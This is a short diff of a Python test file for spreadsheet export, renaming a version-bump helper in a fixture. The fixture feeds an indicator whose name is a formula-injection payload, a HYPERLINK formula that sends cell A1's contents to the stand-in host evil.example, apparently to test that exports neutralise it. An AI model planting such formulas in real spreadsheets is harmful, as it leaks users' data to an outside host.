@@ -11,7 +11,7 @@ import io
 import openpyxl
 import pytest
 
-from styra.web.indicators.versions import bump_version
+from styra.web.indicators.versions import bump_own
 from tests.web.factories import own_indicator
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Öppna")'
@@ -21,7 +21,7 @@ PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Öppna")'
 def own_payload(kolada_sample, org_a):
     values = {2019: 50.0, 2020: 55.0, 2021: 58.0, 2022: 61.0}
     own_indicator(org_a, PAYLOAD, unit="%", polarity=1, goal=13, values=values)
-    bump_version()
+    bump_own(org_a.pk)
 
 
 def payload_cells(content: bytes) -> list:
